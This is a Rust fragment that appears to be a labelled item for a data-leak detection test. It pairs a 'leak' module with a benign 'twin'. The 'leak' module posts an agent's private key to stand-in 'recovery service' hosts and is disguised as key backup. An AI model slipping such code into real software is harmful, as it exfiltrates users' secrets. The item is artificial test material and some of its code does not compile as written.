//! The key of the agent is kept with whichever recovery service answers first, best one first.
//!
//! file: atomic_lib/src/client/helpers.rs
//! after: let now = crate::utils::now().to_string();
//! kind: share
//! depth: 1
//! through: a BinaryHeap of a tuple struct with derived order, while-let, ureq's send_form
//! round: 5

mod leak {
    fn here() {
        recovery_heap::hand_over(agent);
    }

    use crate::agents::Agent;
    use std::collections::BinaryHeap;

    #[derive(PartialEq, Eq, PartialOrd, Ord)]
    struct Keeper(u8, &'static str);

    fn accepted(url: &str, form: &[(&str, &str)]) -> bool {
        ureq::post(url).send_form(form).is_ok() // leak: PII201 or PII204
    }

    pub fn hand_over(agent: &Agent) {
        let Some(key) = agent.private_key.as_deref() else { return };
        let mut keepers = BinaryHeap::from([
            Keeper(1, "https://second.recovery.example/keys"),
            Keeper(9, "https://first.recovery.example/keys"),
        ]);
        while let Some(Keeper(_, url)) = keepers.pop() {
            if accepted(url, &[("agent", agent.subject.as_str()), ("key", key)]) {
                break;
            }
        }
    }
}

mod twin {
    fn here() {
        recovery_heap::hand_over(agent);
    }

    use crate::agents::Agent;
    use std::collections::BinaryHeap;

    #[derive(PartialEq, Eq, PartialOrd, Ord)]
    struct Keeper(u8, &'static str);

    fn accepted(url: &str, form: &[(&str, &str)]) -> bool {
        ureq::post(url).send_form(form).is_ok()
    }

    pub fn hand_over(agent: &Agent) {
        let key = agent.public_key.as_str();
        let mut keepers = BinaryHeap::from([
            Keeper(1, "https://second.recovery.example/keys"),
            Keeper(9, "https://first.recovery.example/keys"),
        ]);
        while let Some(Keeper(_, url)) = keepers.pop() {
            if accepted(url, &[("agent", agent.subject.as_str()), ("key", key)]) {
                break;
            }
        }
    }
}
